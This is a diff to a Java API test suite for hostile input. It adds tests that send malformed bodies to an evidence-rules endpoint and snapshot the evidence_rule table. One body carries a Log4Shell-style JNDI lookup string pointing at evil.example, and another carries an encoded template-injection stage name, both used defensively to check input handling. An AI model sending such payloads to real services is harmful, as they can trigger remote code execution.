@@ -311,6 +311,18 @@ class HostileInputApiTest extends ApiTestBase {
 					Map.of("yellowDays", 10, "redDays", 50));
 		}
 
+		String rule = "/api/evidence-rules/SIGNING";
+		json("evidence rule by manager", "PUT", rule, "manager", Map.of("required", true));
+		json("evidence rule by auditor", "PUT", rule, "auditor", Map.of("required", true));
+		for (Object body : java.util.Arrays.asList(Map.of("required", "${jndi:ldap://evil.example/a}"),
+				Map.of("required", List.of(true)), Map.of("required", Map.of("a", 1)), Map.of(), "true", null)) {
+			json("evidence rule " + body, "PUT", rule, "admin", body);
+		}
+		for (String stage : List.of("FOO", "NEGOTIATION", "%24%7Bx%7D", "1", "signing")) {
+			json("evidence rule of stage " + stage, "PUT", "/api/evidence-rules/" + stage, "admin",
+					Map.of("required", true));
+		}
+
 		String name = "hx" + UUID.randomUUID().toString().substring(0, 8);
 		Map<String, Object> account = Map.of("username", name, "displayName", "Hostile", "roles", List.of("OFFICER"),
 				"password", "correct horse battery");
@@ -579,6 +591,11 @@ class HostileInputApiTest extends ApiTestBase {
 					.listOfRows()
 					.toString());
 		s.put("parks", jdbc.sql("SELECT code, name, district FROM park ORDER BY code").query().listOfRows().toString());
+		s.put("evidence rules",
+				jdbc.sql("SELECT stage, evidence_required FROM evidence_rule ORDER BY stage")
+					.query()
+					.listOfRows()
+					.toString());
 		s.put("thresholds",
 				jdbc.sql("SELECT stage, yellow_days, red_days FROM stage_threshold ORDER BY stage")
 					.query()
